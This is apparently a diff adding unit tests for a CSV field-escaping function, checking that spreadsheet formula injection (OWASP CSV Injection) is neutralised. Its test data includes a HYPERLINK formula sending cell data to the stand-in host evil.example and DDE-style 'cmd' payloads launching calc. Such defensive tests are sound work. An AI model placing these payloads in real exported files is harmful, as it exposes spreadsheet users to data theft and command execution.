@@ -16,7 +16,21 @@ describe('CSV escaping (RFC 4180)', () => {
     [false, 'non'],
     [null, ''],
     [undefined, ''],
+    [-12.5, '-12.5'], // a number, not text a spreadsheet could take for a formula
   ])('writes %j as %j', (value, expected) => {
+    expect(escapeCsvField(value)).toBe(expected);
+  });
+
+  // OWASP "CSV Injection": text that a spreadsheet would evaluate is written with a leading apostrophe.
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")"`],
+    ['+33 4 94 00 00 00', "'+33 4 94 00 00 00"],
+    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['Voirie = réseaux', 'Voirie = réseaux'],
+  ])('neutralises the text %j that a spreadsheet would read as a formula', (value, expected) => {
     expect(escapeCsvField(value)).toBe(expected);
   });
 
